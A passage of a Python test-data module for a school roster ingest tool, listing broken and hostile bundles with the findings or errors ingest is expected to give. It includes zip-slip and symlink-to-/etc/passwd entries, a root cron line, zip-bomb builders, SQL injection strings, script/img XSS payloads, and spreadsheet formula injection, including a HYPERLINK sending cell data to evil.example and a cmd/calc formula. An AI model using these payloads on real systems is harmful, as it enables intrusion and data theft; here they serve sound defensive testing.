"""The corpus table: hostile and broken bundles, each with the exact outcome ingest must give.

A case's ``build(folder)`` writes its bundle under ``folder`` and returns a :class:`Built`: the
path to ingest and the files as the district sent them (what ``export`` must give back byte for
byte). ``findings`` are ``(code, entity, field, value, row)`` in the order ingest records them;
``checked`` names findings the checks that run after ingest must add; ``error`` is the one line
(after ``rosterlab: ``) of a bundle that cannot be read at all, with
``{bundle}`` and other placeholders filled from ``Built.context``. ``stored`` pins values as the
history tables keep them: ``(entity, key, column, value)``, for the one version of that key; a
column outside the spec is looked up in the ``extra`` map.

Most cases damage the tiny district of ``tests/tiny.py``, where every row is visible (students.csv
data rows: 1-2 S-001 with two contacts, 3 S-002, 4 S-003); a few take a ``rosterlab.synth`` night
with a named incident.
"""

from __future__ import annotations

import codecs
import functools
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from rosterlab.synth import Night, generate_district, write_night
from tests.tiny import csv_text, tiny_night

Expected = tuple[str, str | None, str | None, str | None, int | None]
Stored = tuple[str, str, str, str | None]

NIGHT_STAMP = 1788228000  # 2026-09-01 02:00 UTC, the tiny night's mtime
EXT: Expected = ("extension-column", "students", None, "ext.house", None)
TINY_ROWS = {"students": 3, "contacts": 3, "teachers": 3, "sections": 2, "enrollments": 3}
STUDENTS_HEADER = "School_id,Student_id,Student_number,Last_name,First_name,Grade,Student_zip,"
STUDENTS_HEADER += "Contact_type,Contact_name,Contact_sis_id,ext.house"
ROW_1 = "SCH-1,S-001,00123,Lee,Ada,3,02134,Primary,Pat Lee,C-1,red"
ROW_2 = "SCH-1,S-001,00123,Lee,Ada,3,02134,Emergency,Sam Lee,,red"
ROW_3 = "SCH-2,S-002,00456,Diaz,Bo,10,02135,,,,blue"
ROW_4 = "SCH-2,S-003,00789,Okafor,Cy,11,,Primary,Ngozi Okafor,C-3,"
ZIP_LIMIT = 8 * 1024**3
NUL_NAME = "ext.ho\x00use"
ESCAPES_NAME = "ext.\x1b[2J\x07ho\x9buse\u202e"


@dataclass(frozen=True)
class Built:
    """A generated bundle: what to ingest, and the files export must give back."""

    path: Path
    files: dict[str, bytes]
    context: dict[str, str] = field(default_factory=dict)


@dataclass(frozen=True)
class Case:
    name: str
    incident: str
    build: Callable[[Path], Built]
    findings: tuple[Expected, ...] = ()
    error: str | None = None
    stored: tuple[Stored, ...] = ()
    rows: dict[str, int] = field(default_factory=dict)
    messages: tuple[str, ...] = ()  # exact messages of the malformed-row findings, in order
    checked: tuple[Expected, ...] = ()  # findings the checks after ingest must include
    taken_at: str | None = "2026-09-01T02:00:00"  # --taken-at (None: the files' newest mtime)


# --- builders ----------------------------------------------------------------------------------


def tiny_files(newline: str = "\n") -> dict[str, bytes]:
    return {name: csv_text(rows, newline).encode() for name, rows in tiny_night().items()}


def write_folder(folder: Path, files: dict[str, bytes]) -> Path:
    """Write ``files`` (relative names) with the tiny night's mtime."""
    for name, data in files.items():
        target = folder / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
        os.utime(target, (NIGHT_STAMP, NIGHT_STAMP))
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def folder(files: dict[str, bytes]) -> Callable[[Path], Built]:
    def build(dest: Path) -> Built:
        return Built(write_folder(dest / "bundle", files), files)

    return build


def tiny_with(**replaced: bytes) -> Callable[[Path], Built]:
    """The tiny night with some files replaced (``students_csv=b"..."`` → students.csv)."""
    files = tiny_files() | {name.replace("_csv", ".csv"): data for name, data in replaced.items()}
    return folder(files)


def students(*lines: str, newline: str = "\n", end: str | None = None) -> bytes:
    """students.csv text: the given lines joined by ``newline`` (``end`` after the last)."""
    return (newline.join(lines) + (newline if end is None else end)).encode()


TINY_STUDENTS = (STUDENTS_HEADER, ROW_1, ROW_2, ROW_3, ROW_4)
ROWS = TINY_STUDENTS[1:]


def zipped(
    members: dict[str, bytes], files: dict[str, bytes] | None = None
) -> Callable[[Path], Built]:
    """A zip of ``members``; ``files`` is the bundle export gives back (default: the members)."""

    def build(dest: Path) -> Built:
        dest.mkdir(parents=True, exist_ok=True)
        path = dest / "bundle.zip"
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in members.items():
                archive.writestr(zipfile.ZipInfo(name, (2026, 9, 1, 2, 0, 0)), data)
        return Built(path, files if files is not None else members)

    return build


def patched_zip(
    members: dict[str, bytes], patch: Callable[[bytearray], None]
) -> Callable[[Path], Built]:
    """A zip whose bytes are then edited by ``patch`` (declared sizes, flags)."""

    def build(dest: Path) -> Built:
        built = zipped(members)(dest)
        data = bytearray(built.path.read_bytes())
        patch(data)
        built.path.write_bytes(data)
        return built

    return build


def _central_entries(data: bytearray) -> list[int]:
    """Offsets of the central directory entries (signature PK\\1\\2)."""
    found, start = [], 0
    while (at := data.find(b"PK\x01\x02", start)) != -1:
        found.append(at)
        start = at + 4
    return found


def declare_size(size: int, only: str | None = None) -> Callable[[bytearray], None]:
    """Make entries (all, or the one named ``only``) claim ``size`` uncompressed bytes."""

    def patch(data: bytearray) -> None:
        for at in _central_entries(data):
            length = int.from_bytes(data[at + 28 : at + 30], "little")
            if only is not None and data[at + 46 : at + 46 + length] != only.encode():
                continue
            data[at + 24 : at + 28] = size.to_bytes(4, "little")
            local = int.from_bytes(data[at + 42 : at + 46], "little")
            data[local + 22 : local + 26] = size.to_bytes(4, "little")

    return patch


def encrypt_flag(data: bytearray) -> None:
    """Set the 'encrypted' bit as an encrypting zipper would (zipfile cannot encrypt)."""
    for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(signature) + flags_at] |= 0x1


def truncate(data: bytearray) -> None:
    del data[len(data) // 2 :]


def zip_with_link(dest: Path) -> Built:
    dest.mkdir(parents=True, exist_ok=True)
    path = dest / "bundle.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in tiny_files().items():
            if name != "students.csv":
                archive.writestr(name, data)
        link = zipfile.ZipInfo("students.csv")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return Built(path, {})


def folder_link_outside(dest: Path) -> Built:
    outside = write_folder(dest / "elsewhere", {"students.csv": students(*TINY_STUDENTS)})
    files = tiny_files()
    del files["students.csv"]
    bundle = write_folder(dest / "bundle", files)
    (bundle / "students.csv").symlink_to(outside / "students.csv")
    return Built(bundle, {}, {"outside": str(outside / "students.csv")})


def folder_link_inside(dest: Path) -> Built:
    files = tiny_files()
    bundle = write_folder(dest / "bundle", files | {"exports/students.csv": files["students.csv"]})
    (bundle / "students.csv").unlink()
    (bundle / "students.csv").symlink_to("exports/students.csv")
    return Built(bundle, files | {"exports/students.csv": files["students.csv"]})


def zip_of_tiny(dest: Path) -> bytes:
    return zipped(tiny_files())(dest).path.read_bytes()


def nested(outer_extra: bool) -> Callable[[Path], Built]:
    def build(dest: Path) -> Built:
        inner = zip_of_tiny(dest / "inner")
        members = (tiny_files() if outer_extra else {}) | {"night.zip": inner}
        return zipped(members)(dest / "outer")

    return build


@functools.cache
def synth_night(incident: str) -> Night:
    """Night 1 of a 40-student synthetic district (no ext.* columns) with one incident."""
    district = generate_district(
        "synth", students=40, seed=7, extensions=False, incidents={1: [incident]}
    )
    return district.night(1)


def synth(incident: str) -> Callable[[Path], Built]:
    def build(dest: Path) -> Built:
        paths = write_night(synth_night(incident), dest / "bundle")
        return Built(dest / "bundle", {p.name: p.read_bytes() for p in paths})

    return build


def synth_rows(incident: str) -> tuple[int, ...]:
    return synth_night(incident).results[0].rows


def malformed(row: int, detail: str) -> str:
    return f"students.csv row {row} cannot be parsed: {detail}."


TOO_FEW = "too few fields (Expected Number of Columns: 11 Found: {})"
TOO_MANY = "too many fields (Expected Number of Columns: 11 Found: {})"
UNCLOSED = "unclosed or stray quote (Value with unterminated quote found)"
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\x00\x00\nendobj\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
XLSX = b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00\xb5U0#\xf4\x00\x00\x00L\x02"
SQL_HEADER = 'ext.x"; DROP TABLE snapshots; --'
SQL_NAME = "x'); DROP TABLE raw_files; --.csv"
SCRIPT = "<script>alert('x')</script>"
IMG = '<img src=x onerror="alert(1)">'
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CMD = "=cmd|' /C calc'!A0"
SAM_CRLF = '"Sam\r\nLee"'  # a quoted value holding a CRLF
BIG = "x" * 10_000_000
LARGE = "y" * 1_500_000


def _students_with(**cells: str) -> bytes:
    """The tiny students.csv with S-002's row (data row 3) given other cell values."""
    header = STUDENTS_HEADER.split(",")
    row = dict(zip(header, ROW_3.split(","), strict=True)) | cells
    return csv_text(
        [header, *(r.split(",") for r in (ROW_1, ROW_2)), list(row.values()), ROW_4.split(",")]
    ).encode()


# --- the table ---------------------------------------------------------------------------------

CASES: tuple[Case, ...] = (
    # --- encodings -----------------------------------------------------------------------------
    Case(
        "utf16-le-bom",
        "students.csv saved by Excel as 'Unicode Text' (UTF-16 LE with BOM)",
        tiny_with(students_csv=students(*TINY_STUDENTS).decode().encode("utf-16")),
        (("encoding-not-utf8", "students", None, "utf-16-le", None), EXT),
        stored=(("students", "S-002", "Last_name", "Diaz"),),
        rows=TINY_ROWS,
    ),
    Case(
        "utf16-be-bom",
        "students.csv as UTF-16 BE with BOM (an old Java exporter)",
        tiny_with(
            students_csv=codecs.BOM_UTF16_BE + students(*TINY_STUDENTS).decode().encode("utf-16-be")
        ),
        (("encoding-not-utf8", "students", None, "utf-16-be", None), EXT),
        stored=(("students", "S-003", "First_name", "Cy"),),
        rows=TINY_ROWS,
    ),
    Case(
        "utf16-le-no-bom",
        "students.csv as UTF-16 LE without BOM",
        tiny_with(students_csv=students(*TINY_STUDENTS).decode().encode("utf-16-le")),
        (("encoding-not-utf8", "students", None, "utf-16-le", None), EXT),
        stored=(("students", "S-001", "Student_number", "00123"),),
        rows=TINY_ROWS,
    ),
    Case(
        "utf16-be-no-bom",
        "students.csv as UTF-16 BE without BOM",
        tiny_with(students_csv=students(*TINY_STUDENTS).decode().encode("utf-16-be")),
        (("encoding-not-utf8", "students", None, "utf-16-be", None), EXT),
        rows=TINY_ROWS,
    ),
    Case(
        "utf16-truncated",
        "a UTF-16 file cut off mid-character (odd byte count): not text in any encoding",
        tiny_with(students_csv=students(*TINY_STUDENTS).decode().encode("utf-16")[:-1]),
        (("unreadable-file", "students", None, "students.csv", None),),
        rows={"students": 0, "contacts": 0, "teachers": 3},
    ),
    Case(
        "windows-1252",
        "accented names saved as Windows-1252",
        tiny_with(
            students_csv=students(*TINY_STUDENTS)
            .decode()
            .replace("Diaz,Bo", "Díaz,Bö")
            .encode("cp1252")
        ),
        (("encoding-not-utf8", "students", None, "cp1252", None), EXT),
        stored=(
            ("students", "S-002", "Last_name", "Díaz"),
            ("students", "S-002", "First_name", "Bö"),
        ),
        rows=TINY_ROWS,
    ),
    Case(
        "latin-1-fallback",
        "a byte Windows-1252 leaves undefined (0x81): read as Latin-1",
        tiny_with(students_csv=students(*TINY_STUDENTS).replace(b"Diaz", b"Di\x81z")),
        (("encoding-not-utf8", "students", None, "latin-1", None), EXT),
        stored=(("students", "S-002", "Last_name", "Di\x81z"),),
        rows=TINY_ROWS,
    ),
    Case(
        "utf8-bom",
        "students.csv saved by Notepad with a UTF-8 byte-order mark",
        tiny_with(students_csv=codecs.BOM_UTF8 + students(*TINY_STUDENTS)),
        (("bom-present", "students", None, None, None), EXT),
        stored=(("students", "S-001", "School_id", "SCH-1"),),
        rows=TINY_ROWS,
    ),
    Case(
        "bom-only",
        "students.csv holds nothing but a UTF-8 byte-order mark",
        tiny_with(students_csv=codecs.BOM_UTF8),
        (
            ("bom-present", "students", None, None, None),
            ("empty-file", "students", None, "students.csv", None),
        ),
        rows={"students": 0, "contacts": 0},
    ),
    Case(
        "synth-utf16-file",
        "synth incident utf16-file: teachers.csv from older Windows tooling",
        synth("utf16-file"),
        (("encoding-not-utf8", "teachers", None, "utf-16-le", None),),
    ),
    Case(
        "synth-cp1252-file",
        "synth incident cp1252-file: students.csv as Windows-1252",
        synth("cp1252-file"),
        (("encoding-not-utf8", "students", None, "cp1252", None),),
    ),
    Case(
        "synth-bom",
        "synth incident bom: students.csv starts with a byte-order mark",
        synth("bom"),
        (("bom-present", "students", None, None, None),),
    ),
    # --- line breaks ---------------------------------------------------------------------------
    Case(
        "mixed-lf-crlf",
        "a nightly job appends CRLF rows to an LF file",
        tiny_with(
            students_csv=students(STUDENTS_HEADER, ROW_1, ROW_2, ROW_3)
            + students(ROW_4, newline="\r\n", end="\r\n")
        ),
        (EXT,),
        stored=(
            ("students", "S-003", "Last_name", "Okafor"),
            ("students", "S-002", "ext.house", "blue"),
        ),
        rows=TINY_ROWS,
    ),
    Case(
        "mixed-lf-crlf-cr",
        "LF, CRLF and a lone CR (classic Mac) in one file",
        tiny_with(
            students_csv=f"{STUDENTS_HEADER}\r\n{ROW_1}\n{ROW_2}\r{ROW_3}\r\n{ROW_4}\n".encode()
        ),
        (EXT,),
        stored=(("students", "S-002", "ext.house", "blue"),),
        rows=TINY_ROWS,
    ),
    Case(
        "cr-only",
        "classic Mac OS line breaks (CR only)",
        tiny_with(students_csv=students(*TINY_STUDENTS, newline="\r")),
        (EXT,),
        stored=(("students", "S-003", "First_name", "Cy"),),
        rows=TINY_ROWS,
    ),
    Case(
        "crlf-excel-multiline-cell",
        "Excel: CRLF records, an Alt+Enter line break (LF) inside a quoted cell",
        tiny_with(
            students_csv=students(
                STUDENTS_HEADER,
                ROW_1,
                ROW_2,
                ROW_3.replace("Diaz", '"Diaz\nGarcia"'),
                ROW_4,
                newline="\r\n",
            )
        ),
        (EXT,),
        stored=(("students", "S-002", "Last_name", "Diaz\nGarcia"),),
        rows=TINY_ROWS,
    ),
    Case(
        "embedded-newlines-then-short-row",
        "quoted values spanning lines before a short row: rows count records, not lines",
        tiny_with(
            students_csv=students(
                STUDENTS_HEADER,
                ROW_1.replace("Pat Lee", '"Pat\n\nLee"'),
                ROW_2,
                ROW_3.removesuffix(",blue"),
                ROW_4,
            )
        ),
        (EXT, ("malformed-row", "students", None, None, 3)),
        messages=(malformed(3, TOO_FEW.format(10)),),
        stored=(("contacts", "S-001/sis_id:C-1", "Contact_name", "Pat\n\nLee"),),
        rows={"students": 2, "contacts": 3},
    ),
    Case(
        "blank-rows",
        "empty lines inside the data and at the end",
        tiny_with(students_csv=students(STUDENTS_HEADER, ROW_1, "", ROW_2, ROW_3, ROW_4, "")),
        (EXT, ("blank-row", "students", None, None, 2), ("blank-row", "students", None, None, 6)),
        rows=TINY_ROWS,
    ),
    Case(
        "mixed-blank-and-quoted-crlf",
        "mixed line breaks, a blank CRLF line, a CRLF kept inside quotes, then a short row",
        tiny_with(
            students_csv=(
                f"{STUDENTS_HEADER}\n{ROW_1}\r\n\r\n{ROW_2.replace('Sam Lee', SAM_CRLF)}\n"
                f"{ROW_3}\r\n{ROW_4.removesuffix(',')}\n"
            ).encode()
        ),
        (
            EXT,
            ("blank-row", "students", None, None, 2),
            ("malformed-row", "students", None, None, 5),
        ),
        messages=(malformed(5, TOO_FEW.format(10)),),
        stored=(("contacts", "S-001/partial:Sam\r\nLee|Emergency||", "Contact_type", "Emergency"),),
        rows={"students": 2, "contacts": 2},
    ),
    Case(
        "stray-quote-in-mixed-file",
        'O"Brien unquoted in a file whose later rows end in CRLF',
        tiny_with(
            students_csv=students(STUDENTS_HEADER, ROW_1, ROW_2, ROW_3.replace("Diaz", 'O"Brien'))
            + students(ROW_4, newline="\r\n", end="\r\n")
        ),
        (EXT,),
        stored=(("students", "S-002", "Last_name", 'O"Brien'),),
        rows=TINY_ROWS,
    ),
    Case(
        "no-final-newline",
        "the last row has no line break",
        tiny_with(students_csv=students(*TINY_STUDENTS, end="")),
        (EXT,),
        stored=(("students", "S-003", "Last_name", "Okafor"),),
        rows=TINY_ROWS,
    ),
    # --- quotes and ragged rows ----------------------------------------------------------------
    Case(
        "unclosed-quote-last-row",
        "the last row opens a quote it never closes",
        tiny_with(students_csv=students(*TINY_STUDENTS[:4], ROW_4.replace("Okafor", '"Okafor'))),
        (EXT, ("malformed-row", "students", None, None, 4)),
        messages=(malformed(4, UNCLOSED),),
        rows={"students": 2, "contacts": 2},
    ),
    Case(
        "unclosed-quote-swallows-the-rest",
        "row 2 opens a quote never closed: the rest of the file is inside it",
        tiny_with(
            students_csv=students(
                STUDENTS_HEADER, ROW_1, ROW_2.replace("Sam", '"Sam'), ROW_3, ROW_4
            )
        ),
        (EXT, ("malformed-row", "students", None, None, 2)),
        messages=(malformed(2, UNCLOSED),),
        rows={"students": 1, "contacts": 1},
    ),
    Case(
        "stray-quote-in-value",
        'O"Brien written without quoting: a quote inside an unquoted value is a character',
        tiny_with(
            students_csv=students(
                STUDENTS_HEADER, ROW_1, ROW_2, ROW_3.replace("Diaz", 'O"Brien'), ROW_4
            )
        ),
        (EXT,),
        stored=(("students", "S-002", "Last_name", 'O"Brien'),),
        rows=TINY_ROWS,
    ),
    Case(
        "text-after-closing-quote",
        '"Diaz"Jr: text after a closing quote',
        tiny_with(
            students_csv=students(
                STUDENTS_HEADER, ROW_1, ROW_2, ROW_3.replace("Diaz", '"Diaz"Jr'), ROW_4
            )
        ),
        (EXT, ("malformed-row", "students", None, None, 3)),
        messages=(malformed(3, UNCLOSED),),
        rows={"students": 2, "contacts": 3},
    ),
    Case(
        "ragged-too-few",
        "a row missing its last field",
        tiny_with(
            students_csv=students(STUDENTS_HEADER, ROW_1, ROW_2, ROW_3.removesuffix(",blue"), ROW_4)
        ),
        (EXT, ("malformed-row", "students", None, None, 3)),
        messages=(malformed(3, TOO_FEW.format(10)),),
        rows={"students": 2, "contacts": 3},
    ),
    Case(
        "ragged-too-many",
        "two unquoted commas in a row: one finding for the row, naming its 13 fields",
        tiny_with(
            students_csv=students(
                STUDENTS_HEADER, ROW_1, ROW_2, ROW_3.replace("Diaz", "Diaz, Jr., III"), ROW_4
            )
        ),
        (EXT, ("malformed-row", "students", None, None, 3)),
        messages=(malformed(3, TOO_MANY.format(13)),),
        rows={"students": 2, "contacts": 3},
    ),
    Case(
        "whitespace-only-row",
        "a line of spaces between rows",
        tiny_with(students_csv=students(STUDENTS_HEADER, ROW_1, "   ", ROW_2, ROW_3, ROW_4)),
        (EXT, ("malformed-row", "students", None, None, 2)),
        messages=(malformed(2, TOO_FEW.format(1)),),
        rows=TINY_ROWS,
    ),
    Case(
        "synth-unquoted-comma",
        "synth incident unquoted-comma: a last name with a comma written without quotes",
        synth("unquoted-comma"),
        tuple(
            ("malformed-row", "students", None, None, row) for row in synth_rows("unquoted-comma")
        ),
    ),
    Case(
        "nul-in-value",
        "a NUL byte inside a name (valid UTF-8): kept verbatim",
        tiny_with(students_csv=students(*TINY_STUDENTS).replace(b"Diaz", b"Di\x00az")),
        (EXT,),
        stored=(("students", "S-002", "Last_name", "Di\x00az"),),
        rows=TINY_ROWS,
    ),
    Case(
        "pdf-named-csv",
        "a PDF (NUL bytes) saved as students.csv",
        tiny_with(students_csv=PDF),
        (("unreadable-file", "students", None, "students.csv", None),),
        rows={"students": 0, "contacts": 0},
    ),
    Case(
        "ten-mb-field",
        "a 10 MB value in one row: over the parser's 2 MB line limit",
        tiny_with(
            students_csv=students(STUDENTS_HEADER, ROW_1, ROW_2, ROW_3.replace("Diaz", BIG), ROW_4)
        ),
        (EXT, ("malformed-row", "students", None, None, 3)),
        messages=(
            malformed(
                3,
                "line too long (Maximum line size of 2000000 bytes exceeded. "
                "Actual Size:10000038 bytes)",
            ),
        ),
        rows={"students": 2, "contacts": 3},
    ),
    Case(
        "large-field-under-the-line-limit",
        "a 1.5 MB value: kept whole",
        tiny_with(
            students_csv=students(
                STUDENTS_HEADER, ROW_1, ROW_2, ROW_3.replace("Diaz", LARGE), ROW_4
            )
        ),
        (EXT,),
        stored=(("students", "S-002", "Last_name", LARGE),),
        rows=TINY_ROWS,
    ),
    # --- headers -------------------------------------------------------------------------------
    Case(
        "duplicate-header",
        "Grade twice: the first one counts",
        tiny_with(
            students_csv=students(
                STUDENTS_HEADER + ",Grade", ROW_1 + ",4", ROW_2 + ",4", ROW_3 + ",11", ROW_4 + ",12"
            )
        ),
        (("duplicate-column", "students", None, "Grade", None), EXT),
        stored=(("students", "S-002", "Grade", "10"),),
        rows=TINY_ROWS,
    ),
    Case(
        "blank-header-cell",
        "an unnamed column in the middle of the header",
        tiny_with(
            students_csv=students(
                *(
                    line.replace(",", ",,", 1) if i == 0 else line.replace(",", ",x,", 1)
                    for i, line in enumerate(TINY_STUDENTS)
                )
            )
        ),
        (("unnamed-column", "students", None, "1", None), EXT),
        stored=(("students", "S-002", "", "x"), ("students", "S-002", "Student_id", "S-002")),
        rows=TINY_ROWS,
    ),
    Case(
        "trailing-comma",
        "every line ends with a comma: a blank last column",
        tiny_with(students_csv=students(*(line + "," for line in TINY_STUDENTS))),
        (("unnamed-column", "students", None, "1", None), EXT),
        rows=TINY_ROWS,
    ),
    Case(
        "all-blank-header",
        "a header of commas only",
        tiny_with(students_csv=students(",,,", "SCH-1,S-001,Lee,Ada", "SCH-2,S-002,Diaz,Bo")),
        (
            ("unnamed-column", "students", None, "4", None),
            ("missing-column", "students", "School_id", None, None),
            ("missing-column", "students", "Student_id", None, None),
            ("missing-column", "students", "Last_name", None, None),
            ("missing-column", "students", "First_name", None, None),
        ),
        rows={"students": 2, "contacts": 0},
    ),
    Case(
        "header-case-variants",
        "the header typed by hand in other cases: the spec columns, as Clever matches them "
        "(v2.1.1: case-sensitive matching is not required)",
        tiny_with(
            students_csv=students(
                "school_id,STUDENT_ID,Student_Number,last_name,FIRST_NAME,grade",
                "SCH-1,S-001,00123,Lee,Ada,3",
            )
        ),
        (),
        stored=(
            ("students", "S-001", "Student_number", "00123"),
            ("students", "S-001", "Grade", "3"),
        ),
        rows={"students": 1, "contacts": 0},
    ),
    Case(
        "header-padded-with-spaces",
        "' Student_id' with a leading space",
        tiny_with(
            students_csv=students(
                *(line.replace(",Student_id", ", Student_id") for line in TINY_STUDENTS)
            )
        ),
        (
            ("missing-column", "students", "Student_id", None, None),
            ("misspelled-column", "students", "Student_id", " Student_id", None),
            EXT,
        ),
        rows={"students": 3, "contacts": 3},
    ),
    Case(
        "header-quoted-line-break",
        'a quoted header cell holding a line break ("Student\\nid"): the header is one record',
        tiny_with(
            students_csv=students(
                STUDENTS_HEADER.replace("Student_id", '"Student\nid"'), *TINY_STUDENTS[1:]
            )
        ),
        (
            ("missing-column", "students", "Student_id", None, None),
            ("misspelled-column", "students", "Student_id", "Student\nid", None),
            EXT,
        ),
        rows={"students": 3, "contacts": 3},
    ),
    Case(
        "empty-file",
        "students.csv truncated to zero bytes",
        tiny_with(students_csv=b""),
        (("empty-file", "students", None, "students.csv", None),),
        rows={"students": 0, "contacts": 0, "teachers": 3},
    ),
    Case(
        "header-only",
        "students.csv with its header and no rows",
        tiny_with(students_csv=students(STUDENTS_HEADER)),
        (EXT,),
        rows={"students": 0, "contacts": 0, "teachers": 3},
    ),
    Case(
        "first-line-blank",
        "an empty first line above the header",
        tiny_with(students_csv=students("", *TINY_STUDENTS)),
        (("empty-file", "students", None, "students.csv", None),),
        rows={"students": 0, "contacts": 0},
    ),
    Case(
        "blank-lines-only",
        "three empty lines",
        tiny_with(students_csv=b"\n\n\n"),
        (("empty-file", "students", None, "students.csv", None),),
        rows={"students": 0},
    ),
    # --- zips, links and other files -----------------------------------------------------------
    Case(
        "zip-slip-dotdot",
        "a zip entry ../evil.csv (zip slip)",
        zipped(tiny_files() | {"../evil.csv": b"x"}),
        error="{bundle} holds an unsafe entry '../evil.csv' (absolute, '..' or a link): "
        "re-create the zip with plain relative names",
    ),
    Case(
        "zip-absolute-path",
        "a zip entry /etc/cron.d/evil",
        zipped(tiny_files() | {"/etc/cron.d/evil": b"* * * * * root sh"}),
        error="{bundle} holds an unsafe entry '/etc/cron.d/evil' (absolute, '..' or a link): "
        "re-create the zip with plain relative names",
    ),
    Case(
        "zip-windows-drive",
        "a zip entry C:\\evil.csv",
        zipped(tiny_files() | {"C:\\evil.csv": b"x"}),
        error="{bundle} holds an unsafe entry 'C:\\\\evil.csv' (absolute, '..' or a link): "
        "re-create the zip with plain relative names",
    ),
    Case(
        "zip-symlink-entry",
        "students.csv in the zip is a symlink to /etc/passwd",
        zip_with_link,
        error="{bundle} holds an unsafe entry 'students.csv' (absolute, '..' or a link): "
        "re-create the zip with plain relative names",
    ),
    Case(
        "folder-link-outside",
        "students.csv in the drop folder is a link to a file outside the bundle",
        folder_link_outside,
        error="{bundle} holds 'students.csv', a link to {outside} outside the bundle: "
        "copy the file in instead of linking it",
    ),
    Case(
        "folder-link-inside",
        "students.csv is a link to exports/students.csv inside the bundle: read",
        folder_link_inside,
        (("unexpected-file", None, None, "exports/students.csv", None), EXT),
        rows=TINY_ROWS,
    ),
    Case(
        "zip-bomb",
        "five entries claiming 4 GiB each: refused before anything is unpacked",
        patched_zip({f"students{n}.csv": b"0" * 1000 for n in range(5)}, declare_size(2**32 - 16)),
        error=f"{{bundle}} unpacks to {5 * (2**32 - 16):,} bytes, over the limit of "
        f"{ZIP_LIMIT:,} (bundle_max_bytes in [limits]): unzip it and pass the folder",
    ),
    Case(
        "zip-bomb-lying-size",
        "50 MB of zeros declared as 1,000 bytes: unpacking stops at the declared size",
        patched_zip(
            tiny_files() | {"students.csv": b"0" * 50_000_000}, declare_size(1000, "students.csv")
        ),
        error="{bundle}: cannot unpack students.csv (Bad CRC-32 for file 'students.csv'): "
        "re-create the zip or pass the folder",
    ),
    Case(
        "zip-too-many-entries",
        "1,001 entries",
        zipped({f"f{n}.csv": b"" for n in range(1001)}),
        error="{bundle} holds 1001 files, over the limit of 1000: unzip it and pass the folder",
    ),
    Case(
        "zip-encrypted",
        "a password-protected zip",
        patched_zip(tiny_files(), encrypt_flag),
        error="{bundle} is encrypted (schools.csv): unzip it with its password and pass the folder",
    ),
    Case(
        "zip-truncated",
        "a zip cut off half-way through the upload",
        patched_zip(tiny_files(), truncate),
        error="{bundle} is neither a folder nor a readable zip (File is not a zip file): pass the "
        "bundle folder or a .zip of it",
    ),
    Case(
        "not-a-zip",
        "students.csv itself passed as the bundle",
        lambda dest: Built(write_folder(dest, tiny_files()) / "students.csv", {}),
        error="{bundle} is neither a folder nor a readable zip (File is not a zip file): pass the "
        "bundle folder or a .zip of it",
    ),
    Case(
        "nested-zip",
        "the night's files plus a zip of them inside the zip",
        nested(outer_extra=True),
        (("unexpected-file", None, None, "night.zip", None), EXT),
        rows=TINY_ROWS,
    ),
    Case(
        "zip-of-a-zip",
        "only a zip inside the zip: nothing is unpacked twice",
        nested(outer_extra=False),
        (
            ("missing-file", "schools", None, "schools.csv", None),
            ("missing-file", "students", None, "students.csv", None),
            ("missing-file", "teachers", None, "teachers.csv", None),
            ("missing-file", "sections", None, "sections.csv", None),
            ("missing-file", "enrollments", None, "enrollments.csv", None),
            ("unexpected-file", None, None, "night.zip", None),
        ),
        rows={"students": 0, "teachers": 0},
    ),
    Case(
        "zip-from-finder",
        "a zipped folder with __MACOSX and .DS_Store litter",
        zipped(
            {f"maple/{n}": d for n, d in tiny_files().items()}
            | {"__MACOSX/maple/._students.csv": b"\x00\x05\x16\x07", "maple/.DS_Store": b"Bud1"},
            tiny_files(),
        ),
        (EXT,),
        rows=TINY_ROWS,
    ),
    Case(
        "xlsx-instead-of-csv",
        "students.xlsx uploaded instead of students.csv",
        folder(
            {n: d for n, d in tiny_files().items() if n != "students.csv"} | {"students.xlsx": XLSX}
        ),
        (
            ("missing-file", "students", None, "students.csv", None),
            ("unexpected-file", None, None, "students.xlsx", None),
        ),
        rows={"students": 0, "contacts": 0, "teachers": 3},
    ),
    Case(
        "image-named-csv",
        "a PNG saved as schools.csv",
        tiny_with(schools_csv=PNG),
        (("unreadable-file", "schools", None, "schools.csv", None), EXT),
        rows={"schools": 0, "students": 3},
    ),
    # --- injection: data stays data ------------------------------------------------------------
    Case(
        "sql-in-extension-header",
        'an ext. header carrying SQL: ext.x"; DROP TABLE snapshots; --',
        tiny_with(
            schools_csv=csv_text(
                [
                    [*tiny_night()["schools.csv"][0], SQL_HEADER],
                    [*tiny_night()["schools.csv"][1], "1"],
                    [*tiny_night()["schools.csv"][2], "2"],
                ]
            ).encode()
        ),
        (("extension-column", "schools", None, SQL_HEADER, None), EXT),
        stored=(("schools", "SCH-1", SQL_HEADER, "1"),),
        rows={"schools": 2, **TINY_ROWS},
    ),
    Case(
        "sql-in-values",
        "an ID and a name carrying SQL",
        tiny_with(
            students_csv=_students_with(
                Student_id="S-2'); DROP TABLE students; --",
                Last_name="Robert'); DROP TABLE students;--",
            )
        ),
        (EXT,),
        stored=(
            (
                "students",
                "S-2'); DROP TABLE students; --",
                "Last_name",
                "Robert'); DROP TABLE students;--",
            ),
        ),
        rows=TINY_ROWS,
    ),
    Case(
        "sql-in-file-name",
        f"an extra file named {SQL_NAME}",
        folder(tiny_files() | {SQL_NAME: b"a,b\n1,2\n"}),
        (EXT, ("unexpected-file", None, None, SQL_NAME, None)),
        rows=TINY_ROWS,
    ),
    Case(
        "html-in-names",
        "script and img tags in names (stored verbatim; escaping is the renderers' job)",
        tiny_with(
            students_csv=_students_with(First_name=SCRIPT, Last_name=IMG),
            schools_csv=csv_text(
                [
                    tiny_night()["schools.csv"][0],
                    ["SCH-1", IMG, "101", "Kindergarten", "5"],
                    tiny_night()["schools.csv"][2],
                ]
